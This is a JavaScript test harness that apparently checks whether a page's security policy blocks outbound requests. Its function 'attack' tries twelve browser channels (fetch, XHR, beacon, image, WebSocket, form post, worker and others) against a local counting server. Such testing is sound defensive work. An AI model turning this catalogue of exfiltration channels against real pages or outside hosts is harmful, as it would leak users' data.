// Ways out of a page, tried in a browser against a server that counts what arrives.

import { writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { pathToFileURL } from "node:url";

/** Try to get a word out of a page, in every way that a script has. */
function attack(browser, address) {
  return browser.run(async (to) => {
    const wait = (time) => new Promise((resolve) => { setTimeout(resolve, time); });
    const put = (tag, attributes, where = document.body) => {
      const one = Object.assign(document.createElement(tag), attributes);
      where.append(one);
      return one;
    };
    const ways = [
      () => fetch(`${to}/fetch`, { mode: "no-cors" }),
      () => { const one = new XMLHttpRequest(); one.open("GET", `${to}/xhr`); one.send(); },
      () => navigator.sendBeacon(`${to}/beacon`, "a"),
      () => put("img", { src: `${to}/image` }),
      () => new WebSocket(`${to.replace("http", "ws")}/socket`),
      () => put("link", { rel: "stylesheet", href: `${to}/style` }, document.head),
      () => put("script", { src: `${to}/script` }),
      () => put("iframe", { src: `${to}/frame` }),
      () => {
        put("iframe", { name: "aside" });
        const form = put("form", { action: `${to}/form`, method: "post", target: "aside" });
        form.submit();
      },
      () => new EventSource(`${to}/events`),
      () => new Worker(URL.createObjectURL(new Blob([`fetch("${to}/worker", { mode: "no-cors" })`]))),
      () => put("video", { src: `${to}/video`, preload: "auto" }),
    ];
    await Promise.all(ways.map(async (way) => {
      try { await Promise.race([way(), wait(100)]); } catch { /* it is stopped: counted at the server */ }
    }));
    await wait(1000);
  }, address);
}

/** The ways by which something arrived, from a page that is open and from one without a policy that is put into a folder. */
export async function waysOut(browser, folder) {
  const seen = new Set(), server = createServer((request, response) => {
    seen.add(request.url);
    response.end();
  });
  server.on("upgrade", (request, socket) => {
    seen.add(request.url);
    socket.destroy();
  });
  await new Promise((resolve) => { server.listen(0, "127.0.0.1", resolve); });
  const address = `http://127.0.0.1:${server.address().port}`, open = join(folder, "open.html");
  writeFileSync(open, "<!doctype html><title>without a policy</title><body></body>");
  const found = {};
  try {
    await attack(browser, address);
    found.page = [...seen];
    seen.clear();
    await browser.goto(pathToFileURL(open).href);
    await attack(browser, address);
    found.open = [...seen];
  } finally {
    server.closeAllConnections();
    server.close();
  }
  return found;
}
